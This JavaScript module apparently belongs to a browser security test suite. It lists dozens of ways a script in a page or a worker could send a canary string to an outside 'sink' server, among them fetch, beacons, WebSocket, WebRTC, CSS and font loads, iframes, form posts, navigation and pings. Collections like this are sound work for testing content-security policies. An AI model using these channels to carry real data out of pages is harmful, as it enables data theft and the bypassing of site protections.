// Ways out of a page and of a worker, each as a function that runs inside:
// what a script would try that wants to carry a text away. `sink` is the
// address of someone else's server, `own` the site's own, `udp` a port that
// would receive STUN packets, `name` marks the attempt. They may throw.

/** @typedef {{ sink: string, own: string, udp: number, canary: string, name: string }} Where */

/** Attempts that leave the page where it is. */
export const fromPage = {
  fetch: ({ sink, canary, name }) => fetch(`${sink}${name}?${canary}`, { mode: "no-cors" }),
  "fetch-post": ({ sink, canary, name }) => fetch(`${sink}${name}`, { method: "POST", mode: "no-cors", body: canary, keepalive: true }),
  "fetch-own": ({ own, canary, name }) => fetch(`${own}${name}?${canary}`, { method: "POST", body: canary }),
  "fetch-v2": ({ own, canary, name }) => fetch(`${own}v2/${name}?${canary}`, { method: "POST", body: canary, credentials: "omit", redirect: "manual" }),
  xhr: ({ sink, canary, name }) => { const x = new XMLHttpRequest(); x.open("POST", sink + name); x.send(canary); },
  "xhr-own": ({ own, canary, name }) => { const x = new XMLHttpRequest(); x.open("POST", own + name); x.send(canary); },
  beacon: ({ sink, canary, name }) => navigator.sendBeacon(sink + name, canary),
  "beacon-v2": ({ own, canary, name }) => navigator.sendBeacon(`${own}v2/${name}`, canary),
  "beacon-own": ({ own, canary, name }) => navigator.sendBeacon(own + name, canary),
  fetchLater: ({ sink, canary, name }) => fetchLater(`${sink}${name}?${canary}`, { activateAfter: 0, mode: "no-cors" }),
  websocket: ({ sink, canary, name }) => { new WebSocket(`${sink.replace("http", "ws")}${name}?${canary}`); },
  "websocket-own": ({ own, canary, name }) => { new WebSocket(`${own.replace("http", "ws")}${name}?${canary}`); },
  eventsource: ({ sink, canary, name }) => { new EventSource(`${sink}${name}?${canary}`); },
  webtransport: ({ udp, canary, name }) => { new WebTransport(`https://127.0.0.1:${udp}/${name}?${canary}`); },
  image: ({ sink, canary, name }) => { new Image().src = `${sink}${name}?${canary}`; },
  "image-own": ({ own, canary, name }) => { new Image().src = `${own}${name}?${canary}`; },
  srcset: ({ sink, canary, name }) => { const i = document.createElement("img"); i.srcset = `${sink}${name}?${canary} 1x`; document.body.append(i); },
  "svg-image": ({ sink, canary, name }) => { const s = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const i = document.createElementNS("http://www.w3.org/2000/svg", "image"); i.setAttribute("href", `${sink}${name}?${canary}`); s.append(i); document.body.append(s); },
  "css-style-attribute": ({ sink, canary, name }) => { const d = document.createElement("div"); d.style.backgroundImage = `url("${sink}${name}?${canary}")`; d.style.height = "9px"; document.body.append(d); },
  "css-import": ({ sink, canary, name }) => { const s = document.createElement("style"); s.textContent = `@import "${sink}${name}?${canary}";`; document.head.append(s); },
  "css-sheet-url": ({ sink, canary, name }) => { const s = new CSSStyleSheet(); s.replaceSync(`main { background: url("${sink}${name}?${canary}") }`); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; },
  "css-link": ({ sink, canary, name }) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = `${sink}${name}?${canary}`; document.head.append(l); },
  "css-link-own": ({ own, canary, name }) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = `${own}style/1-base.css?${canary}${name}`; document.head.append(l); },
  font: ({ sink, canary, name }) => new FontFace("x", `url("${sink}${name}?${canary}")`).load(),
  script: ({ sink, canary, name }) => { const s = document.createElement("script"); s.src = `${sink}${name}?${canary}`; document.head.append(s); },
  "script-own": ({ own, canary, name }) => { const s = document.createElement("script"); s.src = `${own}page/dom.js?${canary}${name}`; document.head.append(s); },
  // A hash in a policy would allow a script with that hash from anywhere.
  "script-pinned": async ({ sink, canary, name }) => {
    const pinned = document.querySelector('script[type="module"][src], script[integrity]');
    const s = document.createElement("script");
    s.setAttribute("integrity", pinned?.getAttribute("integrity") ?? "");
    s.setAttribute("crossorigin", "");
    s.src = `${sink}${name}?${canary}`;
    document.head.append(s);
  },
  "script-blob": ({ sink, canary, name }) => import(URL.createObjectURL(new Blob([`fetch("${sink}${name}?${canary}", {mode:"no-cors"})`], { type: "text/javascript" }))),
  import: ({ sink, canary, name }) => import(`${sink}${name}?${canary}`),
  "import-own": ({ own, canary, name }) => import(`${own}page/dom.js?${canary}${name}`),
  iframe: ({ sink, canary, name }) => { const f = document.createElement("iframe"); f.src = `${sink}${name}?${canary}`; document.body.append(f); },
  "iframe-own": ({ own, canary, name }) => { const f = document.createElement("iframe"); f.src = `${own}index.html?${canary}${name}`; document.body.append(f); },
  "iframe-srcdoc": ({ sink, canary, name }) => { const f = document.createElement("iframe"); f.srcdoc = `<img src="${sink}${name}?${canary}">`; document.body.append(f); },
  "iframe-blank-fetch": ({ sink, canary, name }) => { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.fetch(`${sink}${name}?${canary}`, { mode: "no-cors" }); },
  object: ({ sink, canary, name }) => { const o = document.createElement("object"); o.data = `${sink}${name}?${canary}`; document.body.append(o); },
  embed: ({ sink, canary, name }) => { const o = document.createElement("embed"); o.src = `${sink}${name}?${canary}`; document.body.append(o); },
  video: ({ sink, canary, name }) => { const v = document.createElement("video"); v.poster = `${sink}${name}?${canary}`; v.src = `${sink}${name}?${canary}`; document.body.append(v); },
  prefetch: ({ sink, canary, name }) => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = `${sink}${name}?${canary}`; document.head.append(l); },
  preload: ({ sink, canary, name }) => { const l = document.createElement("link"); l.rel = "preload"; l.as = "image"; l.href = `${sink}${name}?${canary}`; document.head.append(l); },
  "preload-fetch": ({ sink, canary, name }) => { const l = document.createElement("link"); l.rel = "preload"; l.as = "fetch"; l.crossOrigin = "anonymous"; l.href = `${sink}${name}?${canary}`; document.head.append(l); },
  // Where a service worker is asked before the policy, it is what refuses these.
  "preload-own": ({ own, canary, name }) => { const l = document.createElement("link"); l.rel = "preload"; l.as = "fetch"; l.href = `${own}icon.svg?${canary}${name}`; document.head.append(l); },
  "preload-v2": ({ own, canary, name }) => { const l = document.createElement("link"); l.rel = "preload"; l.as = "fetch"; l.href = `${own}v2/${name}?${canary}`; document.head.append(l); },
  "preload-v2-anonymous": ({ own, canary, name }) => { const l = document.createElement("link"); l.rel = "preload"; l.as = "fetch"; l.crossOrigin = "anonymous"; l.href = `${own}v2/${name}?${canary}`; document.head.append(l); },
  modulepreload: ({ sink, canary, name }) => { const l = document.createElement("link"); l.rel = "modulepreload"; l.href = `${sink}${name}?${canary}`; document.head.append(l); },
  preconnect: ({ sink }) => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = sink; document.head.append(l); },
  "dns-prefetch": ({ sink }) => { const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = sink; document.head.append(l); },
  icon: ({ sink, canary, name }) => { const l = document.createElement("link"); l.rel = "icon"; l.href = `${sink}${name}?${canary}`; document.head.append(l); },
  speculation: ({ sink, canary, name }) => { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [`${sink}${name}?${canary}`] }] }); document.head.append(s); },
  worker: ({ own, canary, name }) => { new Worker(`${own}page/dom.js?${canary}${name}`); },
  "worker-blob": ({ sink, canary, name }) => { globalThis.held = new Worker(URL.createObjectURL(new Blob([`fetch("${sink}${name}?${canary}", {mode:"no-cors"})`], { type: "text/javascript" }))); },
  sharedworker: ({ own, canary, name }) => { new SharedWorker(`${own}page/dom.js?${canary}${name}`); },
  serviceworker: ({ own, canary, name }) => navigator.serviceWorker.register(`${own}sw.js?${canary}${name}`, { scope: "/elsewhere/" }),
  worklet: ({ sink, canary, name }) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${sink}${name}?${canary}`),
  cache: async ({ sink, canary, name }) => (await caches.open("x")).add(new Request(`${sink}${name}?${canary}`, { mode: "no-cors" })),
  form: ({ sink, canary, name }) => { const i = document.createElement("iframe"); i.name = "out" + name; const f = document.createElement("form"); f.action = sink + name; f.method = "POST"; f.target = i.name; const v = document.createElement("input"); v.name = "v"; v.value = canary; f.append(v); document.body.append(i, f); f.submit(); },
  "meta-csp-report": ({ sink, canary, name }) => { const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = `img-src 'none'; report-uri ${sink}${name}?${canary}`; document.head.append(m); new Image().src = "/x"; },
};

/** WebRTC: refused only by a header. */
export const webrtc = {
  webrtc: async ({ udp }) => { const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); },
  "webrtc-frame": async ({ udp }) => { const f = document.createElement("iframe"); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); },
};

/** Attempts to leave for another address: refused only by a header. */
export const byLeaving = {
  location: ({ sink, canary, name }) => { location.href = `${sink}${name}?${canary}`; },
  "location-replace": ({ sink, canary, name }) => { location.replace(`${sink}${name}?${canary}`); },
  link: ({ sink, canary, name }) => { const a = document.createElement("a"); a.href = `${sink}${name}?${canary}`; document.body.append(a); a.click(); },
  "meta-refresh": ({ sink, canary, name }) => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = `0;url=${sink}${name}?${canary}`; document.head.append(m); },
  "window-open": ({ sink, canary, name }) => { window.open(`${sink}${name}?${canary}`); },
  "link-download": ({ sink, canary, name }) => { const a = document.createElement("a"); a.download = "x"; a.href = `${sink}${name}?${canary}`; document.body.append(a); a.click(); },
  "form-get": ({ sink, canary, name }) => { const f = document.createElement("form"); f.action = sink + name; const v = document.createElement("input"); v.name = "v"; v.value = canary; f.append(v); document.body.append(f); f.submit(); },
};

/** A ping says where a link was followed to; the link itself stays here. */
export const byPing = {
  ping: ({ sink, canary, name }) => { const a = document.createElement("a"); a.href = "#main"; a.ping = `${sink}${name}?${canary}`; document.body.append(a); a.click(); },
};

/** Leaving for an address of the site itself, with the text in it. */
export const byLeavingHome = {
  "location-own": ({ own, canary, name }) => { location.href = `${own}safety.html?${canary}${name}`; },
  "location-v2": ({ own, canary, name }) => { location.href = `${own}v2/${canary}${name}`; },
  "location-own-missing": ({ own, canary, name }) => { location.href = `${own}missing/${canary}${name}`; },
};

/** Attempts from inside a worker. */
export const fromWorker = {
  fetch: ({ sink, canary, name }) => fetch(`${sink}${name}?${canary}`, { mode: "no-cors" }),
  "fetch-own": ({ own, canary, name }) => fetch(`${own}${name}?${canary}`, { method: "POST", body: canary }),
  "fetch-v2": ({ own, canary, name }) => fetch(`${own}v2/${name}?${canary}`, { method: "POST", body: canary, credentials: "omit", redirect: "manual" }),
  // What only looks like the path that a door may reach.
  "fetch-v2-bare": ({ own, canary, name }) => fetch(`${own}v2?${canary}${name}`),
  "fetch-v2-elsewhere": ({ sink, canary, name }) => fetch(`${sink}v2/${name}?${canary}`, { mode: "no-cors" }),
  "fetch-v2-up": ({ own, canary, name }) => fetch(`${own}v2/../${name}?${canary}`, { method: "POST", body: canary }),
  "fetch-v2-inside": ({ own, canary, name }) => fetch(`${own}x/v2/${name}?${canary}`, { method: "POST", body: canary }),
  xhr: ({ sink, canary, name }) => { const x = new XMLHttpRequest(); x.open("POST", sink + name); x.send(canary); },
  websocket: ({ sink, canary, name }) => { new WebSocket(`${sink.replace("http", "ws")}${name}?${canary}`); },
  eventsource: ({ sink, canary, name }) => { new EventSource(`${sink}${name}?${canary}`); },
  webtransport: ({ udp, canary, name }) => { new WebTransport(`https://127.0.0.1:${udp}/${name}?${canary}`); },
  import: ({ sink, canary, name }) => import(`${sink}${name}?${canary}`),
  "import-own": ({ own, canary, name }) => import(`${own}page/dom.js?${canary}${name}`),
  importScripts: ({ sink, canary, name }) => importScripts(`${sink}${name}?${canary}`),
  worker: ({ own, canary, name }) => { new Worker(`${own}page/dom.js?${canary}${name}`); },
  "worker-blob": ({ sink, canary, name }) => { globalThis.held = new Worker(URL.createObjectURL(new Blob([`fetch("${sink}${name}?${canary}", {mode:"no-cors"})`], { type: "text/javascript" }))); },
  cache: async ({ sink, canary, name }) => (await caches.open("x")).add(new Request(`${sink}${name}?${canary}`, { mode: "no-cors" })),
  font: ({ sink, canary, name }) => new FontFace("x", `url("${sink}${name}?${canary}")`).load(),
};
